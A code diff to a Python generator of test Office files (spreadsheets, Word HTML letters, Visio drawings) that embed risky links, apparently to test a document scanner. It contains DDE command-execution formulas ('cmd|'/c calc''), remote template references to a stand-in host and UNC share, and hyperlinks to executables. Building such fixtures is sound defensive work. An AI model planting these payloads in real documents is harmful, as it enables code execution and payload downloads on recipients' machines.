@@ -408,6 +408,15 @@ def _everyday_fields() -> Iterator[_Made]:
     formula = '<worksheet><c><f>HYPERLINK("#Sheet2!A1","file:///C:/a.exe")</f></c><c><f>HYPERLINK("https://x.example/"&amp;A1&amp;".exe")</f></c></worksheet>'
     formula += '<c><f>A1&amp;"|\'"&amp;B1</f></c><c><f>HYPERLINK(IF(A1="x","https://example.com","#a"),"a.exe")</f></c><c>cmd|\'x\'!a</c>'
     yield "formula/list.xlsx", doc.ooxml_bytes([("xl/worksheets/sheet1.xml", formula.encode())], folder="xl")
+    sources = (
+        '<w:AttachedTemplate HRef="file:///C:\\Templates\\a.dotm"><x:WorksheetSource HRef="list-Dateien/sheet001.htm"/>'
+        '<w:AttachedTemplate HRef="\\\\FILESERVER\\a.dotm"><a href="https://x.example/a.exe">:AttachedTemplate</a>'
+    )
+    yield "sources/letter.doc", f"<html><!--[if gte mso 9]><xml>{sources}</xml><![endif]--></html>".encode()
+    page = (
+        b"<PageContents><Cell N='Address' V='https://x.example/a.exe'/><Cell N='Address' V='plan.vsdx'/></PageContents>"
+    )
+    yield "sources/plan.vsdx", doc.ooxml_bytes([("visio/pages/page1.xml", page)], folder="visio")
     rows = "".join(
         f"<tr><td>=SUM(A{n}:B{n})</td><td>-{n}|{n}</td><td>= a | b</td><td>+49 30 {n}</td></tr>" for n in range(9)
     )
@@ -515,6 +524,7 @@ def _pages() -> Iterator[_Made]:
         "dde-spelled": "<td>=cmd&#124;'/c calc'!A0</td>",
         "dde-formula": "<td x:fmla=\"=cmd|'/c calc'!A0\">1</td>",
         "link": f"<td>{link}</td>",
+        "href": '<td><a href="file:///C:/Windows/System32/calc.exe">1</a></td>',
     }.items():
         yield f"{what}/list.xls", _sheet_page(f"<tr>{cell}</tr>")
         yield f"{what}/bare.xls", f"<table><tr>{cell}</tr></table>".encode()
@@ -524,6 +534,20 @@ def _pages() -> Iterator[_Made]:
         " c:\\windows\\system32\\cmd.exe<span style='mso-element:field-separator'></span><![endif]-->x"
         "<!--[if supportFields]><span style='mso-element:field-end'></span><![endif]-->"
     )
+    for what, element in (
+        ("template", '<w:AttachedTemplate HRef="http://x.example/a.dotm">'),
+        ("template-share", "<w:AttachedTemplate HRef='\\\\192.0.2.9\\s\\a.dotm'>"),
+        ("sheet", '<x:WorksheetSource HRef="https://x.example/sheet001.htm"/>'),
+    ):
+        yield f"{what}/letter.doc", f"<html><!--[if gte mso 9]><xml>{element}</xml><![endif]--></html>".encode()
+    yield "link/letter.xml", doc.word_2003('<w:hlink w:dest="file:///C:/a.exe"><w:r/></w:hlink>')
+    space = "http://schemas.microsoft.com/visio/2003/core"
+    drawing = (
+        f'<VisioDocument xmlns="{space}"><Hyperlink><Address>search-ms:query=x</Address></Hyperlink></VisioDocument>'
+    )
+    yield "link/plan.vdx", b'<?xml version="1.0"?>' + drawing.encode()
+    page = b"<PageContents><Row><Cell N='Address' V='file:///C:/a.exe'/></Row></PageContents>"
+    yield "link/plan.vsdx", doc.ooxml_bytes([("visio/pages/page1.xml", page)], folder="visio")
     yield "field/letter.doc", f"<html><body><p>{field}</p></body></html>".encode()
     for coding in ("utf-8", "utf-16"):
         formula = '<worksheet><c><f>HYPERLINK("\\\\192.0.2.9\\s\\a.exe","x")</f></c></worksheet>'.encode(coding)
